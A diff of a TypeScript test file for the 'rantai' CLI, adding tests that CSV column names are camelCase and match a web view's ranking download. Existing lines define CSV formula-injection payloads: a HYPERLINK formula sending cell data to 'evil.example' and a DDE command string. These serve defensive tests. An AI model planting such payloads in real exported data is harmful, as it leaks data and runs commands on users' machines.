@@ -12,6 +12,7 @@ import { DEFAULT_DATASET } from '../../server/config.ts';
 import { datasetToCsvTexts, readDataset } from '../../server/model/index.ts';
 import { tempDir } from '../helpers/datasets.ts';
 import { rantai } from '../helpers/cli.ts';
+import { rankingColumns } from '../../web/src/views/opportunities/ranking.ts';
 
 const HOSTILE_FIRM = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")';
 const HOSTILE_COMPONENT = '+cmd|\' /C calc\'!A0';
@@ -65,5 +66,27 @@ describe('rantai analyse --format csv', () => {
   it('the JSON output keeps the names exactly as the dataset gives them', () => {
     const r = rantai(['analyse', 'missing-links', '--dataset', tmp.dir]);
     expect(r.stdout).toContain(JSON.stringify(HOSTILE_FIRM));
+  });
+});
+
+// One column naming convention across the CLI's CSV, the web views' CSV and the API's JSON (README,
+// "Column names"): camelCase names of the JSON fields; the CLI's substitution table and the web
+// view's ranking download name the same data alike.
+describe('rantai analyse --format csv column names', () => {
+  const header = (name: string): string[] => {
+    const r = rantai(['analyse', name, '--format', 'csv']);
+    expect(r.code).toBe(0);
+    return (parse(r.stdout, { to_line: 1 }) as string[][])[0]!;
+  };
+
+  it.each(['missing-links', 'risk', 'substitution', 'imports', 'metrics'])('%s: every column is a camelCase field name', (name) => {
+    const columns = header(name);
+    expect(columns.length).toBeGreaterThan(3);
+    expect(columns.filter((c) => !/^[a-z][a-zA-Z0-9]*$/.test(c))).toEqual([]);
+  });
+
+  it("substitution: the columns of the web ranking's CSV download appear under the same names", () => {
+    const columns = header('substitution');
+    expect(rankingColumns().map((c) => c.key).filter((key) => !columns.includes(key))).toEqual([]);
   });
 });
